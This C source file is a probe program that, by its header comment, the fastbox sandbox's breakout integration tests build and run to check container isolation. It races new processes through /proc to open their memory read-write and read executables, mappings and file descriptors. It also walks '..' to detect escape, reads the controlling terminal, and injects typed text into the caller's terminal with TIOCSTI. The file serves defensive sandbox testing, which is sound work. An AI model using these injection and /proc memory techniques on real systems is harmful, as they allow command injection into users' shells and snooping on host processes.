/* Attacks run from inside a fastbox container (tests/integration/test_breakout.py).
 *
 *   attack watch            race every new process of the container's pid namespace:
 *                           /proc/N/{mem,exe,maps,fd,cmdline}; one verdict line per pid
 *   attack cwd              where the cwd is: walk `..` up from it, list every level
 *   attack tty              open("/dev/tty"): "tty ok" or "tty ENXIO"
 *   attack ttyread          open("/dev/tty") and read one line typed there
 *   attack tiocsti TEXT     push TEXT into the caller's terminal with TIOCSTI
 *
 * Build: gcc -static -O2 -o attack attack.c (the test's fixture does it). Output is
 * written with write(2), line by line, so nothing sits in a buffer when we are killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <termios.h>
#include <unistd.h>

static void say(const char *fmt, ...)
{
    char buf[8192];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if (n > (int)sizeof buf - 2)
        n = (int)sizeof buf - 2;
    buf[n++] = '\n';
    for (char *p = buf; n > 0;) {
        ssize_t w = write(1, p, (size_t)n);
        if (w < 0 && errno == EINTR)
            continue;
        if (w <= 0)
            return;
        p += w;
        n -= (int)w;
    }
}

static const char *ename(int e)
{
    const char *s = strerrorname_np(e);
    return s ? s : "E?";
}

/* ------------------------------------------------------------------ watch */

static struct stat root_st;

/* Does a path seen through /proc/N/{exe,fd/K} name a file of this container? The link
 * text is resolved here (in the container) and must be the very inode the link leads to.
 * A memfd (a sealed copy of a runtime) is no file of the host. */
static int host_file(const char *link, const struct stat *target)
{
    struct stat here;
    if (link[0] != '/' || !strncmp(link, "/memfd:", 7))
        return 0;
    if (stat(link, &here) < 0)
        return 1;
    return here.st_dev != target->st_dev || here.st_ino != target->st_ino;
}

static const char *const HOST_NAMES[] = {"python", "libpython", "_core", ".venv", "site-packages",
                                         "fastbox-py", "fastbox.engine", NULL};

static const char *host_name_in(const char *text)
{
    for (const char *const *n = HOST_NAMES; *n; n++)
        if (strstr(text, *n))
            return *n;
    return NULL;
}

static ssize_t slurp(const char *path, char *buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    size_t have = 0;
    ssize_t n;
    while (have < size - 1 && (n = read(fd, buf + have, size - 1 - have)) > 0)
        have += (size_t)n;
    close(fd);
    buf[have] = 0;
    return (ssize_t)have;
}

static int read_last_pid(void)
{
    char buf[32];
    return slurp("/proc/sys/kernel/ns_last_pid", buf, sizeof buf) > 0 ? atoi(buf) : -1;
}

/* 'R', 'S', 'Z'... of pid, or 0 if it is gone. */
static char state_of(int pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    if (slurp(path, buf, sizeof buf) <= 0)
        return 0;
    char *p = strrchr(buf, ')');
    return p && p[1] == ' ' ? p[2] : '?';
}

struct sighting {
    int tries, mem_opened, mem_read, host_exe, host_maps, host_fd, host_cmdline, execed;
    int exe_err;
    char exe[256], maps[256], fd[300], cmdline[256];
};

/* The first mapping of a host file named in maps: its start address. */
static unsigned long host_mapping(const char *maps, char *line_out, size_t size)
{
    for (const char *line = maps; *line;) {
        const char *end = strchr(line, '\n');
        size_t len = end ? (size_t)(end - line) : strlen(line);
        char one[512];
        snprintf(one, sizeof one, "%.*s", (int)len, line);
        if (host_name_in(one)) {
            snprintf(line_out, size, "%.200s", one);
            return strtoul(one, NULL, 16);
        }
        line += len + (end ? 1 : 0);
    }
    return 0;
}

static void look_at_fds(int pid, struct sighting *s)
{
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    DIR *d = opendir(dir);
    if (!d)
        return;
    for (struct dirent *e; (e = readdir(d));) {
        int k = atoi(e->d_name);
        if (e->d_name[0] == '.' || k < 3)
            continue;
        char path[128], link[256];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, k);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n <= 0)
            continue;
        link[n] = 0;
        if (stat(path, &st) == 0 && host_file(link, &st) && !s->host_fd) {
            s->host_fd = 1;
            snprintf(s->fd, sizeof s->fd, "%d->%s%s", k, link, S_ISDIR(st.st_mode) ? " (dir)" : "");
        }
    }
    closedir(d);
}

/* One pass of every attack on pid. Returns 0 once the pid is gone. */
static int attack_once(int pid, struct sighting *s)
{
    char path[64], buf[65536], link[256];
    s->tries++;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR | O_CLOEXEC);
    int this_host = 0;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n > 0) {
        struct stat st;
        link[n] = 0;
        if (stat(path, &st) == 0 && host_file(link, &st)) {
            this_host = 1;
            if (!s->host_exe)
                snprintf(s->exe, sizeof s->exe, "%s", link);
            s->host_exe = 1;
        } else if (stat(path, &st) == 0 && st.st_dev == root_st.st_dev) {
            s->execed = 1; /* the container's own program now */
        }
    } else {
        s->exe_err = errno;
    }
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    if (slurp(path, buf, sizeof buf) > 0) {
        char line[256];
        unsigned long addr = host_mapping(buf, line, sizeof line);
        if (addr) {
            this_host = 1;
            if (!s->host_maps)
                snprintf(s->maps, sizeof s->maps, "%s", line);
            s->host_maps = 1;
            char word[8];
            if (mem >= 0 && pread(mem, word, sizeof word, (off_t)addr) == (ssize_t)sizeof word)
                s->mem_read = 1;
        }
    }
    if (mem >= 0) {
        if (this_host)
            s->mem_opened = 1;
        close(mem);
    }
    look_at_fds(pid, s);
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    n = slurp(path, buf, sizeof buf);
    if (n > 0) {
        for (ssize_t i = 0; i < n; i++)
            if (!buf[i])
                buf[i] = ' ';
        if (host_name_in(buf) && !s->host_cmdline) {
            s->host_cmdline = 1;
            snprintf(s->cmdline, sizeof s->cmdline, "%.250s", buf);
        }
    }
    char st = state_of(pid);
    return st != 0 && st != 'Z' && st != 'X';
}

static void report(int pid, const struct sighting *s)
{
    char kinds[128] = "";
    if (s->host_exe)
        strcat(kinds, "exe,");
    if (s->host_maps)
        strcat(kinds, "maps,");
    if (s->mem_opened)
        strcat(kinds, s->mem_read ? "mem-rw-read," : "mem-rw,");
    if (s->host_fd)
        strcat(kinds, "fd,");
    if (s->host_cmdline)
        strcat(kinds, "cmdline,");
    if (kinds[0]) {
        kinds[strlen(kinds) - 1] = 0;
        say("VIOLATION pid=%d kinds=%s tries=%d exe=%s fd=%s maps=%s cmdline=%s", pid, kinds,
            s->tries, s->exe, s->fd, s->maps, s->cmdline);
    } else {
        say("clean pid=%d tries=%d execed=%d exe_err=%s", pid, s->tries, s->execed,
            s->exe_err ? ename(s->exe_err) : "-");
    }
}

static volatile sig_atomic_t stop;

/* A pid is allocated a moment before /proc shows it: give it that moment. */
static int appears(const char *path)
{
    for (int i = 0; i < 64; i++)
        if (access(path, F_OK) == 0)
            return 1;
    return 0;
}

static void on_term(int sig)
{
    (void)sig;
    stop = 1;
}

/* Pids of a pid namespace come in order: wait for the next one at /proc/NEXT and attack
 * it until it is gone. A pid that came and went between two looks is counted missed. */
static int watch(void)
{
    signal(SIGTERM, on_term);
    signal(SIGINT, on_term);
    if (stat("/", &root_st) < 0)
        return 1;
    int next = read_last_pid() + 1;
    say("watch ready root=%llu next=%d", (unsigned long long)root_st.st_dev, next);
    char path[64];
    for (unsigned spins = 0; !stop; spins++) {
        snprintf(path, sizeof path, "/proc/%d/stat", next);
        if (access(path, F_OK) == 0) {
            struct sighting s;
            memset(&s, 0, sizeof s);
            while (!stop && attack_once(next, &s))
                ;
            report(next, &s);
            next++;
            continue;
        }
        /* Behind? Every pid below the newest that is not there came and went. */
        if ((spins & 63) == 0 && read_last_pid() >= next && !appears(path)) {
            int last = read_last_pid();
            do {
                say("missed pid=%d", next++);
                snprintf(path, sizeof path, "/proc/%d/stat", next);
            } while (next <= last && access(path, F_OK) != 0);
        }
    }
    say("watch done");
    return 0;
}

/* ------------------------------------------------------------------ cwd */

/* Walk `..` up from the cwd until it is its own parent; list every level's entries
 * (names joined by '/'). Inside the container the walk ends at its root. */
static int where(void)
{
    char cwd[4096], rel[256] = ".";
    struct stat root, prev = {0};
    if (stat("/", &root) < 0)
        return 1;
    say("cwd %s", getcwd(cwd, sizeof cwd) ? cwd : ename(errno));
    say("root %llu:%llu", (unsigned long long)root.st_dev, (unsigned long long)root.st_ino);
    int inside = 0;
    for (int level = 0; level < 32; level++) {
        struct stat st;
        if (stat(rel, &st) < 0) {
            say("level %d %s", level, ename(errno));
            break;
        }
        if (level && st.st_dev == prev.st_dev && st.st_ino == prev.st_ino)
            break;
        if (st.st_dev == root.st_dev && st.st_ino == root.st_ino)
            inside = 1;
        char names[4096] = "";
        size_t used = 0;
        DIR *d = opendir(rel);
        for (struct dirent *e; d && (e = readdir(d));) {
            size_t len = strlen(e->d_name);
            if (used + len + 2 >= sizeof names)
                break;
            memcpy(names + used, e->d_name, len);
            used += len;
            names[used++] = '/';
            names[used] = 0;
        }
        if (d)
            closedir(d);
        say("level %d %llu:%llu %s", level, (unsigned long long)st.st_dev,
            (unsigned long long)st.st_ino, names);
        prev = st;
        if (strlen(rel) + 4 >= sizeof rel)
            break;
        strcat(rel, "/..");
    }
    say("verdict %s", inside ? "inside" : "OUTSIDE");
    return 0;
}

/* ------------------------------------------------------------------ the terminal */

static int tty(void)
{
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        say("tty %s", ename(errno));
        return 1;
    }
    say("tty ok");
    close(fd);
    return 0;
}

static int ttyread(void)
{
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        say("ttyread open %s", ename(errno));
        return 1;
    }
    say("ttyread waiting");
    struct pollfd p = {.fd = fd, .events = POLLIN};
    char buf[256], hex[520] = "";
    if (poll(&p, 1, 10000) <= 0) {
        say("ttyread nothing");
        return 1;
    }
    ssize_t n = read(fd, buf, sizeof buf);
    for (ssize_t i = 0; i < n && i < 256; i++)
        sprintf(hex + 2 * i, "%02x", (unsigned char)buf[i]);
    say("ttyread got %s", hex);
    return 0;
}

/* TEXT char by char into a terminal's input queue: /dev/tty (our controlling terminal,
 * if we share the caller's session), then stdio, then stdio made our controlling
 * terminal with TIOCSCTTY. */
static int inject(int fd, const char *what, const char *text)
{
    size_t i;
    for (i = 0; text[i]; i++)
        if (ioctl(fd, TIOCSTI, &text[i]) < 0) {
            say("tiocsti %s %s after %zu", what, ename(errno), i);
            return 0;
        }
    say("tiocsti %s injected %zu", what, i);
    return 1;
}

static int tiocsti(const char *raw)
{
    char text[1024];
    size_t j = 0;
    for (size_t i = 0; raw[i] && j < sizeof text - 1; i++) /* "\n" in argv: a newline */
        if (raw[i] == '\\' && raw[i + 1] == 'n') {
            text[j++] = '\n';
            i++;
        } else {
            text[j++] = raw[i];
        }
    text[j] = 0;
    int done = 0, fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        say("tiocsti /dev/tty open %s", ename(errno));
    } else {
        done = inject(fd, "/dev/tty", text);
        close(fd);
    }
    for (int k = 0; k < 3 && !done; k++) {
        char what[32];
        snprintf(what, sizeof what, "fd%d", k);
        if (isatty(k))
            done = inject(k, what, text);
    }
    for (int k = 0; k < 3 && !done; k++)
        if (isatty(k)) {
            if (ioctl(k, TIOCSCTTY, 0) < 0) {
                say("tiocsctty fd%d %s", k, ename(errno));
            } else {
                say("tiocsctty fd%d ok", k);
                done = inject(k, "ctty", text);
            }
        }
    return done ? 0 : 1;
}

int main(int argc, char **argv)
{
    if (argc >= 2 && !strcmp(argv[1], "watch"))
        return watch();
    if (argc >= 2 && !strcmp(argv[1], "cwd"))
        return where();
    if (argc >= 2 && !strcmp(argv[1], "tty"))
        return tty();
    if (argc >= 2 && !strcmp(argv[1], "ttyread"))
        return ttyread();
    if (argc >= 3 && !strcmp(argv[1], "tiocsti"))
        return tiocsti(argv[2]);
    fprintf(stderr, "usage: attack watch|cwd|tty|ttyread|tiocsti TEXT\n");
    return 2;
}
